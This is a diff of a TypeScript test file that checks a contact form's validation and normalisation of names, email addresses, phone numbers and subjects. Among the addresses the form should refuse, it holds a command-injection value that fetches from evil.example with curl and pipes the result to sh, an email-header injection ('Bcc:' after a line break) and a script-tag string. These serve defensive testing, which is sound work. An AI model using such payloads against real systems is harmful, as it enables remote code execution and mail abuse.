@@ -19,84 +19,47 @@ describe('a message', () => {
     ]);
   });
 
-  it('accepts names in every script', () => {
-    for (const name of ['Ọlábísí', "O'Brien", '李', 'Jean-Luc', 'Ñandú', 'ߊߓߊ', 'Ngozi 👩🏾‍🌾']) {
-      assert.deepEqual(errorsOf({ firstName: name, lastName: name, subject: name }), {}, name);
-    }
+  const accepted: Partial<Record<FieldName, readonly string[]>> = {
+    firstName: ['Ọlábísí', "O'Brien", '李', 'Jean-Luc', 'Ñandú', 'ߊߓߊ', 'Ngozi 👩🏾‍🌾'],
+    email: ['a+tag@b.co', "o'brien@x.org", 'ọlá@ilé.ng', 'a@sub.example.com.ng', 'ada@xn--il-cja.example'],
+    phone: ['0803 000 0000', '(0)803-000-0000', '(+234) 803 000 0000', '+234.803.000.0000 ext. 12'],
+    subject: ['Ọlábísí', 'Ngozi 👩🏾‍🌾'],
+    message: ['one\n\ttwo <script>alert(1)</script>'],
+  };
+  // Separated by spaces; ␣ stands for one.
+  const refused: Partial<Record<FieldName, string>> = {
+    phone: 'call␣me 12 + 0803\u2028000',
+    subject: 'a\nb a\rb a\0b a\u001bb a\u2028b a\ud800b',
+    email: `a ada.example.com "a␣b"@b.co a@b @b.co a@b..co a␣b@c.co a@b.co,␣c@d.co a@b.co@c.co a@b.co␣<c@d.co>
+      a<b@c.co a@-b.co ada@my”farm.example ada…@visitor.example ada@visitor™.example ada²@visitor.example 'ada'@visitor.example
+      adaª@visitor.example ada@visitor1⁄2.example a!b@b.co =?utf-8?q?a?=@b.co Ada␣<ada@visitor.example>␣and␣<obi@visitor.example>
+      a@${'ọlá.'.repeat(30)}ng ada@visitor.ex${'\u0430'}mple ${'\u0430'}da@visitor.example a${'\u{e0041}'}@b.co
+      a@${'\u0301'}b.example ${'\u0301'}a@b.co ${'`curl$'}{IFS}evil.example|sh${'`'}@visitor.example
+      ${[...'`$|&{}'].map((sign) => `a${sign}b@b.co`).join(' ')}
+      ${[...'–*_~=/+-#%^?.ˈˌـーªºʰⁿ'].map((sign) => `${sign}ada@visitor.example`).join(' ')}`,
+  };
+  it('takes names in every script, addresses that can be answered and phone numbers as people write them', () => {
+    for (const [name, texts] of Object.entries(accepted))
+      for (const text of texts) assert.deepEqual(errorsOf({ [name]: text }), {}, text);
   });
 
-  it('accepts phone numbers in the usual notations', () => {
-    for (const phone of [
-      '0803 000 0000',
-      '+234 803 000 0000',
-      '(0)803-000-0000',
-      '(+234) 803 000 0000',
-      '+234.803.000.0000 ext. 12',
-    ]) {
-      assert.deepEqual(errorsOf({ phone }), {}, phone);
-    }
-    for (const phone of ['call me', '12', '+', '0803\n000']) {
-      assert.deepEqual(Object.keys(errorsOf({ phone })), ['phone'], phone);
-    }
-  });
-
-  it('accepts deliverable email addresses and names what is wrong with others', () => {
-    for (const email of ['a+tag@b.co', "o'brien@x.org", 'ọlá@ilé.ng', 'a@sub.example.com.ng']) {
-      assert.deepEqual(errorsOf({ email }), {}, email);
-    }
-    for (const email of [
-      'a',
-      'ada.example.com',
-      '"a b"@b.co',
-      'a@b',
-      '@b.co',
-      'a@b..co',
-      'a b@c.co',
-      'a@b.co, c@d.co',
-      'a@b.co\r\nBcc: x@y.z',
-      'a@b.co@c.co',
-      'a@b.co <c@d.co>',
-      'a<b@c.co',
-      'a@-b.co',
-      'ada@my”farm.example',
-      'ada…@visitor.example',
-      'ada@visitor™.example',
-      'ada²@visitor.example',
-      'a\u{e0041}@b.co',
-      'a@\u0301b.example',
-      '\u0301a@b.co',
-      'ada@visitor1⁄2.example',
-      "'ada'@visitor.example",
-      'ada@visitor.ex\u0430mple',
-      '\u0430da@visitor.example',
-      `a@${'ọlá.'.repeat(30)}ng`,
-      'a!b@b.co',
-      '=?utf-8?q?a?=@b.co',
-      '`curl$' + '{IFS}evil.example|sh`@visitor.example',
-      ...[...'`$|&{}'].map((sign) => `a${sign}b@b.co`),
-      ...[...'–*_~=/+-#%^?.'].map((sign) => `${sign}ada@visitor.example`),
-      // Letters that modify another one, and superscripts.
-      ...[...'ˈˌـーªºʰⁿ'].map((sign) => `${sign}ada@visitor.example`),
-      'adaª@visitor.example',
-      'Ada <ada@visitor.example> and <obi@visitor.example>',
-    ]) {
-      assert.deepEqual(
-        errorsOf({ email }),
-        { email: 'Enter an email address in the form name@example.com' },
-        email,
-      );
-    }
+  it('says what is wrong with others', () => {
+    for (const [name, texts] of Object.entries(refused))
+      for (const text of texts.split(name === 'subject' ? ' ' : /[ \n]+/)) {
+        const errors = errorsOf({ [name]: text.replaceAll('␣', ' ') });
+        assert.deepEqual(Object.keys(errors), [name], JSON.stringify(text));
+      }
+    assert.equal(errorsOf({ email: 'a' }).email, 'Enter an email address in the form name@example.com');
+    assert.ok(errorsOf({ email: 'a@b.co\r\nBcc: x@y.z' }).email);
   });
 
   it('is mended where only one reading is possible, and taken without signs that nobody can see', () => {
     const mended: readonly (readonly [FieldName, typed: string, kept: string])[] = [
       ['email', 'ada@visitor.example”', 'ada@visitor.example'],
-      ['email', '“ada@visitor.example"', 'ada@visitor.example'],
       ['email', "'ada@visitor.example'", 'ada@visitor.example'],
       ['email', '\u202aada@visitor.example\u202c\u200b', 'ada@visitor.example'],
       ['email', 'a\u180ed\u3164a\u2061@visitor.example', 'ada@visitor.example'],
       ['email', 'a\u200bd\u200da@vis\u00aditor\ufeff.example', 'ada@visitor.example'],
-      ['email', 'ada@xn--il-cja.example', 'ada@xn--il-cja.example'],
       ['email', 'ada@می\u200cخواهم.example', 'ada@می\u200cخواهم.example'],
       ['email', 'ada@visitor.example.', 'ada@visitor.example'],
       ['email', 'ada@visitor.example\u037e', 'ada@visitor.example'],
@@ -104,25 +67,22 @@ describe('a message', () => {
       ['email', '＜ada＠visitor．example＞', 'ada@visitor.example'],
       ['email', '"Obi, Ada" <ada@visitor.example>,', 'ada@visitor.example'],
       ['email', '<ada@visitor.example', 'ada@visitor.example'],
-      ['email', '‹mailto:ada@visitor.example›.', 'ada@visitor.example'],
-      ['email', 'Mailto:ada@visitor.example', 'ada@visitor.example'],
+      ['email', '‹Mailto:ada@visitor.example›.', 'ada@visitor.example'],
       ['email', '〝ada@visitor.example〞', 'ada@visitor.example'],
       ['email', '`ada@visitor.example`', 'ada@visitor.example'],
       ['email', '❝ada@visitor.example″', 'ada@visitor.example'],
       ['email', 'oʻbrien@visitor.example', "o'brien@visitor.example"],
       ['email', 'oꞌbrien@visitor.example', "o'brien@visitor.example"],
-      ['email', 'ada٢٠@visitor.example', 'ada20@visitor.example'],
       ['email', 'o’brien@visitor.example', "o'brien@visitor.example"],
+      ['email', 'ada٢٠@visitor.example', 'ada20@visitor.example'],
       ['email', 'ada@my–farm.example', 'ada@my-farm.example'],
       ['email', 'oﬃce＠visitor。example', 'office@visitor.example'],
-      ['phone', '\u200e0803 000 0000', '0803 000 0000'],
       ['phone', '\u202a+234\u2060803\u00ad000\ufe0d0000\u202c', '+2348030000000'],
       ['phone', '0803\u2010000\u20150000', '0803-000-0000'],
       ['phone', '０８０３\t０００\u00a0００００', '0803 000 0000'],
       ['phone', '+٢٣٤ ٨٠٣ ٠٠٠ ٠٠٠٠', '+234 803 000 0000'],
       ['phone', '۰۸۰۳\u202f۰۰۰\u2007۰۰۰۰', '0803 000 0000'],
-      ['firstName', 'Ada\tObi', 'Ada Obi'],
-      ['subject', 'From a slide\vwith two lines\f', 'From a slide with two lines'],
+      ['subject', 'From a slide\vwith\ttwo lines\f', 'From a slide with two lines'],
       ['lastName', 'O\u0092Brien', 'O’Brien'],
       ['subject', '\u2068Ada\u2069 \u202bObi\u202c', 'Ada Obi'],
       ['message', '\u0093Don\u0092t\u0094 \u0096 5 \u0080\u0081', '“Don’t” – 5 €'],
@@ -136,13 +96,6 @@ describe('a message', () => {
     }
   });
 
-  it('refuses line breaks and control characters in one-line fields', () => {
-    for (const sign of ['\n', '\r', '\0', '\u001b', '\u2028', '\ud800']) {
-      assert.deepEqual(Object.keys(errorsOf({ subject: `a${sign}b` })), ['subject'], JSON.stringify(sign));
-    }
-    assert.deepEqual(errorsOf({ message: 'one\n\ttwo <script>alert(1)</script>' }), {});
-  });
-
   it('reads only the six fields and refuses a field that comes twice', () => {
     const read = readMessage([
       ['firstName', 'Ada'],
@@ -154,13 +107,8 @@ describe('a message', () => {
       message: { ...emptyMessage, firstName: 'Ada', message: 'a\nb\nc' },
       repeated: false,
     });
-    assert.equal(
-      readMessage([
-        ['email', 'a'],
-        ['email', 'b'],
-      ]).repeated,
-      true,
-    );
+    const twice = readMessage(['a', 'b'].map((email) => ['email', email]));
+    assert.equal(twice.repeated, true);
   });
 
   it('needs a visible name, and keeps the joiners that some scripts need', () => {
